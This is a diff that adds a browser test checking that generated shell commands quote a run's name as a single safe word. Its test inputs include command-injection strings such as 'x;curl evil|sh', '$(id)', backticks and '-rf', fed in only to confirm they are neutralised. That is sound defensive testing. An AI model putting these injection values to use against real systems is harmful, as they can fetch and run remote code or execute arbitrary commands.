@@ -12,6 +12,7 @@ import base64
 import json
 import os
 import re
+import subprocess
 import sys
 import time
 import zlib
@@ -449,6 +450,29 @@ class Page:
         self.open("#r=<img>&t=5-1&c=%22%3E&f=99999&x&q=%E0%A4&v=<b>&s=x&w=1-&constructor=1")
         self.same("a broken address selects nothing", True, self.browser.run(
             "JSON.stringify(selection) === JSON.stringify(NOTHING)"))
+
+    def commands(self):
+        """A shell takes a run's name in a command for one word, whatever it is, and does no more."""
+        for name in ("x;curl evil|sh", "with blanks", "-rf", "it's $(id) `id`", "~", "=ls", "tab\tline\nbell\x07\u202e\\",
+                     "long'" + "n';id;'" * 60, "\u00e9t\u00e9"):
+            commands = self.browser.run("""(name => [...exportsOf({run: name}).map(one => one.command), ...(theTimeline ? (() => {
+                const {report} = theTimeline;
+                theTimeline.report = {...report, run: name};
+                const made = [theTimeline.command(), theTimeline.wholeCommand()];
+                theTimeline.report = report;
+                return made; })() : [])])(%s)""" % json.dumps(name))
+            for command in commands[:1] + commands[-2:]:
+                taken = subprocess.run(["/bin/bash", "-c", "ckmerge() { printf '%s\\0' \"$@\"; }\n" + command], capture_output=True,
+                                       check=False, env={"PATH": "/nonexistent", "LC_ALL": "C.UTF-8"})
+                self.same("the last word of " + repr(command), "./" * name.startswith("-") + name,
+                          taken.stdout.decode().split("\0")[-2] if taken.stdout else taken.stderr.decode())
+            self.same("a command is shown whole", True, self.browser.run("""(command => {
+                const columns = [{...headColumn('command', row => row), isWhole: true}];
+                return table('t', columns, [command]).querySelector('tbody th').textContent === command &&
+                    tabbed(columns, [command]).split('\\n')[1] === command; })(%s)""" % json.dumps(commands[0])))
+        self.same("the commands of other formats have it", True, self.browser.run("""theReport.run === null || theReport.run === undefined ||
+            [...document.querySelectorAll('#view-more tbody tr')]
+              .some(row => row.textContent.includes('ckmerge --quiet --output json ' + shellWord(theReport.run)))"""))
 
     def hostile_address(self):
         """An expression of an address waits for Enter, no address is cut within a letter,
@@ -1018,6 +1042,7 @@ def check(browser, page, shots, others):
     page.clean("open")
     page.links()
     page.address()
+    page.commands()
     for other in others:
         page.compare(other)
     if page.name == "dead":
